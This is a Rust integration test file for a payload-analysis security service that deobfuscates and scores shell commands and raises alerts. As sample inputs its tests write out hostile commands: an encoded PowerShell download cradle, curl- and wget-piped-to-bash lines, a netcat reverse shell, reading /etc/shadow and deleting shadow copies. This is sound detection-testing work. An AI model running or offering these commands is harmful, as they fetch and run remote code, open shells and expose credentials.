//! Payload analysis in the service: the synchronous verdict and its alert (stream channel
//! `payload`, stored once), refusals naming the field, jobs queued, run by the workers and
//! kept, the queue's bound, the sandbox when enabled, and a registry model swapped in.

use std::time::{Duration, Instant};

use axum::http::StatusCode;
use serde_json::{Value, json};
use warden_payload::{Analyzer, Shell, VerdictConfig, features};
use warden_server::auth::{Scope, create_token};
use warden_server::{AppState, ServiceConfig, app};

use crate::common::{assert_invalid, oneshot};

struct Svc {
    state: AppState,
    router: axum::Router,
    read: String,
    write: String,
    other: String,
}

fn svc_with(config: ServiceConfig, store: warden_store::Store) -> Svc {
    let tok = |scope, tenant| {
        create_token(&store, scope, tenant, "test")
            .unwrap_or_else(|e| panic!("{e}"))
            .0
    };
    let (read, write, other) = (
        tok(Scope::Read, "acme"),
        tok(Scope::Write, "acme"),
        tok(Scope::Admin, "globex"),
    );
    let state = AppState::new(config, store).unwrap_or_else(|e| panic!("{e}"));
    Svc {
        router: app(state.clone()),
        state,
        read,
        write,
        other,
    }
}

fn svc() -> Svc {
    svc_with(
        ServiceConfig::default(),
        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
    )
}

async fn post(s: &Svc, uri: &str, token: &str, body: Value) -> (StatusCode, Value) {
    let (st, _, b) = oneshot(
        &s.router,
        "POST",
        uri,
        Some(token),
        "application/json",
        body.to_string().into_bytes(),
    )
    .await;
    (st, b)
}

async fn get(s: &Svc, uri: &str, token: &str) -> (StatusCode, Value) {
    let (st, _, b) = oneshot(
        &s.router,
        "GET",
        uri,
        Some(token),
        "application/json",
        Vec::new(),
    )
    .await;
    (st, b)
}

/// `powershell -enc` of a download cradle.
fn encoded_cradle() -> String {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
    format!(
        "powershell.exe -NoP -W Hidden -enc {}",
        warden_payload::deobf::codec::encoded_command(script)
    )
}

#[tokio::test]
async fn a_dangerous_command_gets_a_verdict_and_one_alert_on_the_payload_channel() {
    let s = svc();
    let mut feed = s.state.feed.subscribe();
    let text = encoded_cradle();
    let body = json!({"text": text, "user": "alice", "host": "ws-17", "timestamp": "2026-12-03T10:00:00+01:00"});
    let (st, v) = post(&s, "/v1/payload/analyze", &s.write, body.clone()).await;
    assert_eq!(st, StatusCode::OK, "{v}");
    assert_eq!(v["action"], "BLOCK");
    assert_eq!(v["layers"][1]["decoder"], "powershell-encoded-command");
    let alert_id = v["alert_id"].as_i64().unwrap_or_else(|| panic!("{v}"));
    let published = feed
        .try_recv()
        .unwrap_or_else(|e| panic!("nothing published: {e}"));
    assert_eq!((published.id, published.channel), (alert_id, "payload"));
    let (st, a) = get(&s, &format!("/v1/alerts/{alert_id}"), &s.read).await;
    assert_eq!(st, StatusCode::OK, "{a}");
    assert_eq!(a["alert"]["channel"], "payload", "{a}");
    let alert = &a["alert"]["alert"];
    assert_eq!(alert["detector"]["kind"], "payload", "{a}");
    assert_eq!(alert["subject"], "alice", "{a}");
    assert_eq!(alert["detail"]["payload"]["action"], "BLOCK", "{a}");
    assert_eq!(alert["timestamp"], "2026-12-03T09:00:00Z", "{a}");
    // The same text at the same time again (a retry): the same alert, not a second one.
    let (_, again) = post(&s, "/v1/payload/analyze", &s.write, body).await;
    assert_eq!(again["alert_id"], alert_id);
    assert!(feed.try_recv().is_err());
    // Another tenant does not see it.
    let (st, _) = get(&s, &format!("/v1/alerts/{alert_id}"), &s.other).await;
    assert_eq!(st, StatusCode::NOT_FOUND);
    // An everyday command: a verdict, no alert.
    let (st, v) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "ls -la /home", "shell": "sh"}),
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    assert_eq!(
        (v["action"].as_str(), v["alert_id"].is_null()),
        (Some("ALLOW"), true)
    );
}

#[tokio::test]
async fn refusals_name_the_field_and_scopes_hold() {
    let s = svc();
    let (st, b) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "id", "shell": "zsh"}),
    )
    .await;
    assert_invalid(st, &b, "shell");
    let (st, b) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "id", "user": "u".repeat(300)}),
    )
    .await;
    assert_invalid(st, &b, "user");
    let (st, b) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "id", "extra": 1}),
    )
    .await;
    assert_eq!(st, StatusCode::BAD_REQUEST, "{b}");
    let (st, b) = post(&s, "/v1/payload/analyze", &s.write, json!({"shell": "sh"})).await;
    assert_eq!(st, StatusCode::BAD_REQUEST, "{b}");
    let (st, _) = post(&s, "/v1/payload/analyze", &s.read, json!({"text": "id"})).await;
    assert_eq!(st, StatusCode::FORBIDDEN);
    let (st, _) = post(&s, "/v1/payload/jobs", &s.read, json!({"text": "id"})).await;
    assert_eq!(st, StatusCode::FORBIDDEN);
    let (st, b) = get(&s, "/v1/payload/jobs/abc", &s.read).await;
    assert_invalid(st, &b, "id");
    let (st, b) = post(
        &s,
        "/v1/payload/jobs",
        &s.write,
        json!({"text": "id", "timestamp": "yesterday"}),
    )
    .await;
    assert_invalid(st, &b, "timestamp");
    // Binary garbage and deep nesting get a verdict, not an error.
    let garbage: String = (0..20_000u32)
        .map(|i| char::from_u32(i % 0xD7FF + 1).unwrap_or('?'))
        .collect();
    let (st, v) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": garbage}),
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    assert!(v["score"].is_number());
}

async fn wait_done(s: &Svc, id: i64, token: &str) -> Value {
    let started = Instant::now();
    loop {
        let (st, j) = get(s, &format!("/v1/payload/jobs/{id}"), token).await;
        assert_eq!(st, StatusCode::OK, "{j}");
        if j["status"] == "done" || j["status"] == "failed" {
            return j;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "job stuck: {j}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn jobs_are_queued_run_and_kept_and_the_queue_is_bounded() {
    let mut config = ServiceConfig::default();
    config.payload.max_queued_jobs = 2;
    let s = svc_with(
        config,
        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
    );
    // Workers not started yet: the queue fills.
    for text in ["whoami", "id"] {
        let (st, b) = post(&s, "/v1/payload/jobs", &s.write, json!({"text": text})).await;
        assert_eq!(st, StatusCode::ACCEPTED, "{b}");
    }
    let (st, b) = post(
        &s,
        "/v1/payload/jobs",
        &s.write,
        json!({"text": "uname -a"}),
    )
    .await;
    assert_eq!(
        (st, b["error"]["code"].as_str()),
        (StatusCode::TOO_MANY_REQUESTS, Some("quota_exceeded")),
        "{b}"
    );
    warden_server::payload::start(&s.state);
    let (st, b) = get(&s, "/v1/payload/jobs/1", &s.read).await;
    assert_eq!(st, StatusCode::OK, "{b}");
    let done = wait_done(&s, 1, &s.read).await;
    assert_eq!(done["status"], "done", "{done}");
    assert_eq!(done["verdict"]["action"], "ALLOW", "{done}");
    // A sandboxed run asked of a server without the sandbox: analysed statically, and said.
    let (st, b) = post(
        &s,
        "/v1/payload/jobs",
        &s.write,
        json!({"text": "curl -s http://203.0.113.9/x | bash", "sandbox": true}),
    )
    .await;
    assert_eq!(st, StatusCode::ACCEPTED, "{b}");
    assert!(
        b["note"].as_str().is_some_and(|n| n.contains("disabled")),
        "{b}"
    );
    let id = b["id"].as_i64().unwrap_or_default();
    let done = wait_done(&s, id, &s.write).await;
    let v = &done["verdict"];
    assert!(
        v["notes"].to_string().contains("not run in the sandbox"),
        "{v}"
    );
    assert!(
        v["alert_id"].is_i64(),
        "a HIGH verdict raises an alert: {v}"
    );
    // Another tenant's job is not found.
    let (st, _) = get(&s, &format!("/v1/payload/jobs/{id}"), &s.other).await;
    assert_eq!(st, StatusCode::NOT_FOUND);
}

/// 85 bytes of cmd whose `set` variable doubles at every layer: 3 MiB decoded. The verdict
/// answered and the one a job keeps are bounded, and say what they left out.
#[tokio::test]
async fn a_short_text_that_decodes_to_megabytes_gets_a_bounded_verdict() {
    const DOUBLING: &str = "||set a= é%%a%%a%a éé %cmst=% %a%%a%a é ] %||set a= é%a% %a%%a%a&é";
    let s = svc();
    let body = json!({"text": DOUBLING, "shell": "cmd"});
    let (st, v) = post(&s, "/v1/payload/analyze", &s.write, body.clone()).await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let answered = v.to_string().len();
    assert!(answered < 2 << 20, "{answered} bytes answered");
    let last = &v["layers"][v["layers"].as_array().map_or(0, Vec::len) - 1];
    assert!(
        last["bytes"].as_u64().is_some_and(|b| b > 2 << 20),
        "{last}"
    );
    assert!(
        v["notes"].to_string().contains("shown cut short"),
        "{}",
        v["notes"]
    );
    warden_server::payload::start(&s.state);
    let (st, b) = post(&s, "/v1/payload/jobs", &s.write, body).await;
    assert_eq!(st, StatusCode::ACCEPTED, "{b}");
    let done = wait_done(&s, b["id"].as_i64().unwrap_or_default(), &s.write).await;
    assert_eq!(done["status"], "done", "{}", done["error"]);
    let kept = done["verdict"].to_string().len();
    assert!(kept < 2 << 20, "{kept} bytes kept");
}

/// Whether the sandbox can run here (CI sets `WARDEN_REQUIRE_SANDBOX`, where it must).
fn sandbox_here() -> bool {
    warden_sandbox::Sandbox::for_tests(warden_sandbox::SandboxConfig::default()).is_some()
}

#[tokio::test]
async fn a_job_runs_in_the_sandbox_when_enabled() {
    if !sandbox_here() {
        return;
    }
    let mut config = ServiceConfig::default();
    config.sandbox.enabled = true;
    let s = svc_with(
        config,
        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
    );
    warden_server::payload::start(&s.state);
    let script = "echo 'ZWNobyBoaSA+PiB+Ly5iYXNocmMK' | base64 -d | sh\n";
    let (st, b) = post(
        &s,
        "/v1/payload/jobs",
        &s.write,
        json!({"text": script, "shell": "bash", "sandbox": true}),
    )
    .await;
    assert_eq!(st, StatusCode::ACCEPTED, "{b}");
    assert!(b.get("note").is_none(), "{b}");
    let done = wait_done(&s, b["id"].as_i64().unwrap_or_default(), &s.read).await;
    let trace = &done["verdict"]["trace"];
    assert!(
        trace["behaviour"]["files"]
            .to_string()
            .contains("/home/user/.bashrc"),
        "{done}"
    );
    assert!(
        done["verdict"]["views"]["dynamic"]
            .as_f64()
            .is_some_and(|d| d > 50.0),
        "{done}"
    );
}

/// A small model trained on a few labelled lines.
fn tiny_model(flip: bool) -> Vec<u8> {
    let plain = Analyzer::new(None, VerdictConfig::default());
    let set = features::FeatureSet {
        bits: 12,
        ..features::FeatureSet::default()
    };
    let bad = [
        "curl http://x/a | sh",
        "nc -e /bin/sh 10.0.0.1 4444",
        "cat /etc/shadow",
        "wget -qO- http://y/b | bash",
    ];
    let good = ["ls -la", "git status", "cargo build --release", "df -h"];
    let rows: Vec<_> = bad
        .iter()
        .map(|t| (*t, !flip))
        .chain(good.iter().map(|t| (*t, flip)))
        .map(|(t, y)| {
            (
                features::extract(&plain.examine(t, Some(Shell::Sh)), &set),
                y,
            )
        })
        .collect();
    let params = warden_payload::train::TrainParams {
        features: set,
        epochs: 3,
        validation_share: 0.0,
        // Plain TF-IDF: eight texts are too few for class ratios, which would leave a line
        // of the same kind not seen in training ("git log") without evidence.
        class_ratio_exponent: 0.0,
        ..Default::default()
    };
    warden_payload::train::train(&rows, &params, "test")
        .unwrap_or_else(|e| panic!("{e}"))
        .to_bytes()
}

/// A service with `model` registered and active (`payload.model = "registry:payload"`).
/// Registers `model` as the store's active payload model; the configuration that uses it.
fn register_model(
    store: &warden_store::Store,
    model: &[u8],
    mut config: ServiceConfig,
) -> ServiceConfig {
    let v = store
        .register_model("payload", "payload-linear", "wpld", model, &json!({}))
        .unwrap_or_else(|e| panic!("{e}"));
    store
        .activate_model("payload", v)
        .unwrap_or_else(|e| panic!("{e}"));
    config.payload.model = Some("registry:payload".into());
    config
}

fn svc_with_model(model: &[u8], config: ServiceConfig) -> Svc {
    let store = warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}"));
    let config = register_model(&store, model, config);
    svc_with(config, store)
}

#[tokio::test]
async fn a_registry_model_is_used_and_swapped_when_a_new_version_is_activated() {
    let s = svc_with_model(&tiny_model(false), ServiceConfig::default());
    let (_, before) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "git status", "shell": "sh"}),
    )
    .await;
    let p1 = before["views"]["model"]
        .as_f64()
        .unwrap_or_else(|| panic!("no model view: {before}"));
    let log = {
        let store = s.state.store();
        let v2 = store
            .register_model(
                "payload",
                "payload-linear",
                "wpld",
                &tiny_model(true),
                &json!({}),
            )
            .unwrap_or_else(|e| panic!("{e}"));
        store
            .activate_model("payload", v2)
            .unwrap_or_else(|e| panic!("{e}"));
        s.state.payload.reload(&store)
    };
    assert!(log.is_some_and(|l| l.contains("v2 put in use")));
    let (_, after) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "git status", "shell": "sh"}),
    )
    .await;
    let p2 = after["views"]["model"].as_f64().unwrap_or_default();
    assert!(
        p2 > p1,
        "the swapped model (labels flipped) rates it higher: {p1} → {p2}"
    );
    // Nothing new: nothing to do.
    assert!(s.state.payload.reload(&s.state.store()).is_none());
}

#[tokio::test]
async fn a_process_creation_posted_for_detection_has_its_command_line_scored() {
    let s = svc();
    let event = json!({"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                   "Computer": "ws-17.corp", "EventRecordID": 77,
                   "TimeCreated": {"#attributes": {"SystemTime": "2026-12-03T10:00:00.000Z"}}},
        "EventData": {"CommandLine": encoded_cradle(),
                      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "User": "CORP\\alice"}}});
    let benign = json!({"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                   "Computer": "ws-17.corp", "EventRecordID": 78},
        "EventData": {"CommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
                      "Image": "C:\\Windows\\System32\\svchost.exe"}}});
    let (st, b) = post(
        &s,
        "/v1/detect/realtime",
        &s.write,
        json!({"events": [event, benign]}),
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{b}");
    let alerts = b["alerts"].as_array().cloned().unwrap_or_default();
    assert_eq!(alerts.len(), 1, "{b}");
    assert_eq!(alerts[0]["index"], 0, "{b}");
    let id = alerts[0]["id"].as_i64().unwrap_or_default();
    let (_, a) = get(&s, &format!("/v1/alerts/{id}"), &s.read).await;
    assert_eq!(a["alert"]["channel"], "payload", "{a}");
    let alert = &a["alert"]["alert"];
    assert_eq!(alert["subject"], "CORP\\alice", "{a}");
    assert_eq!(alert["evidence"][0]["reference"]["record_id"], 77, "{a}");
    // Posted again (a retry): stored once.
    let (_, again) = post(
        &s,
        "/v1/detect/realtime",
        &s.write,
        json!({"events": [event]}),
    )
    .await;
    assert_eq!(again["alerts"][0]["id"], id, "{again}");
    assert_eq!(again["alerts"][0]["new"], false, "{again}");
}

/// A service whose active payload model (labels flipped) finds `git status` malicious.
fn svc_fearing_git(common_at_hosts: usize) -> Svc {
    let mut config = ServiceConfig::default();
    config.payload.common_at_hosts = common_at_hosts;
    svc_with_model(&tiny_model(true), config)
}

/// Payload alerts raised when each of `hosts` in turn posts a process creation of `cmd`
/// (one request each: a batch reports one alert per command line).
async fn alerts_from_hosts(s: &Svc, cmd: &str, hosts: u64) -> usize {
    let mut alerts = 0;
    for h in 0..hosts {
        let event = json!({"Event": {
            "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Computer": format!("ws-{h}.corp"), "EventRecordID": 1000 + h},
            "EventData": {"CommandLine": cmd, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
                          "User": format!("CORP\\user{h}")}}});
        let (st, b) = post(
            s,
            "/v1/detect/realtime",
            &s.write,
            json!({"events": [event]}),
        )
        .await;
        assert_eq!(st, StatusCode::OK, "{b}");
        alerts += b["alerts"].as_array().map_or(0, Vec::len);
    }
    alerts
}

#[tokio::test]
async fn a_command_line_many_hosts_start_alerts_only_on_what_it_does() {
    let s = svc_fearing_git(3);
    let (_, v) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": "git status", "shell": "sh"}),
    )
    .await;
    assert!(
        v["level"] == "HIGH" || v["level"] == "CRITICAL",
        "the flipped model must find it malicious: {v}"
    );
    // With the count off, every host alerts.
    let off = svc_fearing_git(0);
    assert_eq!(alerts_from_hosts(&off, "git status", 8).await, 8);
    // Hosts 1 and 2 alert; from the third host on the line is common here.
    assert_eq!(alerts_from_hosts(&s, "git status", 8).await, 2);
    // What a line does alerts on every host.
    assert_eq!(
        alerts_from_hosts(&s, "vssadmin.exe delete shadows /all /quiet", 8).await,
        8
    );
}

#[tokio::test]
async fn a_common_line_stays_common_after_a_restart() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let db = dir.path().join("w.db");
    let open = || warden_store::Store::open(&db).unwrap_or_else(|e| panic!("{e}"));
    let store = open();
    let mut config = ServiceConfig::default();
    config.payload.common_at_hosts = 3;
    let config = register_model(&store, &tiny_model(true), config);
    let s = svc_with(config.clone(), store);
    // Two hosts alert; the third makes the line common.
    assert_eq!(alerts_from_hosts(&s, "git status", 3).await, 2);
    let flush = |s: &Svc| {
        warden_server::baselines::flush_prevalence(&s.state).unwrap_or_else(|e| panic!("{e}"))
    };
    assert_eq!(flush(&s), 1);
    // Unchanged since: nothing to save.
    assert_eq!(flush(&s), 0);
    drop(s);
    // After a restart the line is still common: not even a first host alerts again, while
    // another line is counted from nothing.
    let s = svc_with(config, open());
    assert_eq!(alerts_from_hosts(&s, "git status", 3).await, 0);
    assert_eq!(alerts_from_hosts(&s, "git log", 3).await, 2);
}

#[test]
fn the_common_line_threshold_is_checked() {
    let mut config = ServiceConfig::default();
    config.payload.common_at_hosts = 2_000_000;
    let err = config
        .validate()
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("payload.common_at_hosts"), "{err}");
    config.payload.common_at_hosts = 1;
    assert!(config.validate().is_err());
    config.payload.common_at_hosts = 0;
    assert!(config.validate().is_ok());
}

/// A service with one Sigma rule, for a made-up cmdlet no signature of Warden's own knows.
fn svc_with_canary_rule() -> Svc {
    let mut config = ServiceConfig::default();
    config.sigma.rules = vec![
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/sigma-canary"),
    ];
    svc_with(
        config,
        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
    )
}

fn sysmon_process(record: u64, cmd: &str) -> Value {
    json!({"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                   "Computer": "ws-9.corp", "EventRecordID": record,
                   "TimeCreated": {"#attributes": {"SystemTime": "2026-12-03T10:00:00.000Z"}}},
        "EventData": {"CommandLine": cmd,
                      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "User": "CORP\\bob"}}})
}

#[tokio::test]
async fn the_rules_count_once_on_posted_events_and_run_on_submitted_text_as_written() {
    let s = svc_with_canary_rule();
    let script = "Get-WardenCanary -Now";
    let encoded = format!(
        "powershell.exe -enc {}",
        warden_payload::deobf::codec::encoded_command(script)
    );
    let clear = format!("powershell.exe -c {script}");
    let body = json!({"events": [sysmon_process(81, &encoded), sysmon_process(82, &clear)]});
    let (st, b) = post(&s, "/v1/detect/realtime", &s.write, body).await;
    assert_eq!(st, StatusCode::OK, "{b}");
    // Every alert of each event, read back whole.
    let mut by_event: [Vec<Value>; 2] = [Vec::new(), Vec::new()];
    for a in b["alerts"].as_array().into_iter().flatten() {
        let index = a["index"].as_u64().unwrap_or(9) as usize;
        let (_, one) = get(&s, &format!("/v1/alerts/{}", a["id"]), &s.read).await;
        by_event
            .get_mut(index)
            .unwrap_or_else(|| panic!("{b}"))
            .push(one["alert"]["alert"].clone());
    }
    let names_canary = |a: &Value| {
        a["anomalies"].as_array().into_iter().flatten().any(|x| {
            x["type"] == "malicious_command"
                && x["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains("Warden canary cmdlet"))
        })
    };
    let of_kind = |alerts: &[Value], kind: &str| -> Vec<Value> {
        alerts
            .iter()
            .filter(|a| a["detector"]["kind"] == kind)
            .cloned()
            .collect()
    };
    // The encoded command: the rule cannot see it as logged; the payload verdict names it
    // on the decoded form.
    assert!(of_kind(&by_event[0], "sigma").is_empty(), "{by_event:?}");
    let payload = of_kind(&by_event[0], "payload");
    assert_eq!(payload.len(), 1, "{by_event:?}");
    assert!(names_canary(&payload[0]), "{}", payload[0]);
    assert!(
        payload[0]["attack"]
            .as_array()
            .is_some_and(|t| t.iter().any(|t| t == "T1059.001")),
        "{}",
        payload[0]
    );
    // The clear command: the rule's own alert, and its match not counted again by a
    // payload verdict (nor carried on the rule's alert as one).
    let sigma = of_kind(&by_event[1], "sigma");
    assert_eq!(sigma.len(), 1, "{by_event:?}");
    assert!(by_event[1].iter().all(|a| !names_canary(a)), "{by_event:?}");
    // The same clear text submitted for analysis has no rule stage before it: the rule
    // runs on it as written.
    let (st, v) = post(
        &s,
        "/v1/payload/analyze",
        &s.write,
        json!({"text": clear, "shell": "powershell"}),
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let ids: Vec<&str> = v["patterns"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|p| p["id"].as_str())
        .collect();
    assert!(
        ids.contains(&"sigma:6a1e0000-0000-4000-8000-00000000ca7e"),
        "{v}"
    );
}
